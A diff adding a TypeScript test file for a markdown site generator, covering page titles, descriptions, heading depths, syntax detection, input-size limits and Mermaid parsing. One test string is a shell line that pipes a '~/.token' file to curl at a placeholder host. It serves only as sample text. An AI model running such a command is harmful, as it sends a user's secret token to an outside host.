@@ -1,0 +1,126 @@
+// Facts of pages and texts that a fixture does not show: names, descriptions, options, limits, choices of syntax.
+
+import { describe, expect, it } from 'vitest';
+import { titleFromFile } from '../../../src/generator/markdown/doc-facts.ts';
+import { createMarkdown } from '../../../src/generator/markdown/markdown.ts';
+import { readMermaid } from '../../../src/generator/markdown/mermaid-source.ts';
+import { isExcessive } from '../../../src/generator/markdown/text-limits.ts';
+import { constructsIn } from '../../../src/generator/markdown/text-needs.ts';
+
+const markdown = await createMarkdown();
+
+describe('parseDoc', () => {
+  it.each([
+    ['content/docs/rate-limiting.md', 'Rate limiting'],
+    ['content/docs/ESL-authentication.md', 'ESL authentication'],
+    ['content/docs/work-based/index.md', 'Work based'],
+    ['content/README.md', 'Content'],
+    ['index.md', 'Untitled'],
+  ])('names %s %s', (file, title) => {
+    expect(titleFromFile(file)).toBe(title);
+  });
+
+  it('describes a page by its first paragraph, cut at a word', () => {
+    const text = `## Heading\n\n${'word '.repeat(40)}\n\nSecond.`;
+    const { description } = markdown.parseDoc({ file: 'a.md', text }).value;
+    expect(description).toBe(`${'word '.repeat(31)}word…`);
+  });
+
+  it('leaves the ids of the frame to the frame', async () => {
+    const reserving = await createMarkdown([], { reservedIds: ['main'] });
+    const { headings } = reserving.parseDoc({ file: 'a.md', text: '## Main' }).value;
+    expect(headings.map(({ id }) => id)).toEqual(['main-1']);
+  });
+
+  it('loads nothing to draw diagrams where no text has one', () => {
+    const { html } = markdown.parseDoc({
+      file: 'a.md',
+      text: '```mermaid\nflowchart TD\n  A --> B\n```',
+    }).value;
+    expect(html).toContain('<code class="language-plaintext">flowchart TD');
+  });
+});
+
+describe('renderText', () => {
+  it.each([
+    ['# A\n\n### B', undefined, [2, 4]],
+    ['### A\n\n# B', 3, [5, 3]],
+    ['##### A\n\n###### B', 6, [6, 6]],
+    ['## A', 1, [2]],
+  ])('keeps the distance of headings: %j from level %s', (text, topHeading, depths) => {
+    const { headings } = markdown.renderText(text, topHeading === undefined ? {} : { topHeading });
+    expect(headings.map(({ depth }) => depth)).toEqual(depths);
+  });
+
+  it('shows a text that exhausts the stack as it stands', () => {
+    const { html } = markdown.renderText('<b>'.repeat(20_000), {});
+    expect(html).toBe(
+      `<pre class="code" tabindex="0" role="group" aria-label="Text">${'&lt;b>'.repeat(20_000)}</pre>`,
+    );
+  });
+});
+
+describe('constructsIn', () => {
+  it.each([
+    ['Text with `code`, **stress** and [a link](https://host.example).', []],
+    ['---\ntitle: x\n---\n', ['frontMatter']],
+    ['| a |\n| - |', ['table']],
+    ['~~a~~', ['strikethrough']],
+    ['```sh\ncat ~/.token | curl https://host.example\n```', []],
+    ['- [x] a', ['taskList']],
+    ['see www.host.example', ['autolink']],
+    ['a[^1]\n\n[^1]: b', ['footnote']],
+    [':::note\n:::', ['directive']],
+  ])('%j needs %j', (text, constructs) => {
+    expect(constructsIn(text)).toEqual(constructs);
+  });
+});
+
+describe('isExcessive', () => {
+  it.each([
+    ['nested quotations', '>'.repeat(100), true],
+    ['a long rule', '-'.repeat(1000), false],
+    ['nested lists', '- '.repeat(101), true],
+    ['a run of stars', '*'.repeat(501), true],
+    ['blocks in blocks', ':::note\n'.repeat(51), true],
+    ['many blocks', ':::note\n:::\n'.repeat(1000), false],
+    ['lazy lines', '> a\nb\n'.repeat(2001), true],
+    ['a long quotation', '> a\n'.repeat(5000), false],
+    ['an endless paragraph', 'a line\n'.repeat(20_001), true],
+    ['a long page', 'a line\n\n'.repeat(20_001), false],
+    ['two million characters', 'a'.repeat(2_000_001), true],
+  ])('%s', (_, text, expected) => {
+    expect(isExcessive(text)).toBe(expected);
+  });
+});
+
+describe('readMermaid', () => {
+  it('takes the text alternative and the colours out', () => {
+    const source = `---
+config: x
+---
+%% comment
+flowchart TD
+  accTitle: Title: of it
+  accDescr { First
+    second }
+  A --> B
+  style A fill:#f00
+  class B red
+`;
+    expect(readMermaid(source)).toEqual({
+      diagram: 'flowchart TD\n  A --> B',
+      title: 'Title: of it',
+      description: 'First second',
+      margin: 0,
+    });
+  });
+
+  it('keeps the classes of a class diagram', () => {
+    expect(readMermaid('classDiagram\n  class A {\n  }')?.diagram).toBe('classDiagram\n  class A {\n  }');
+  });
+
+  it('knows no other types', () => {
+    expect(readMermaid('pie\n  "a" : 1')).toBeUndefined();
+  });
+});
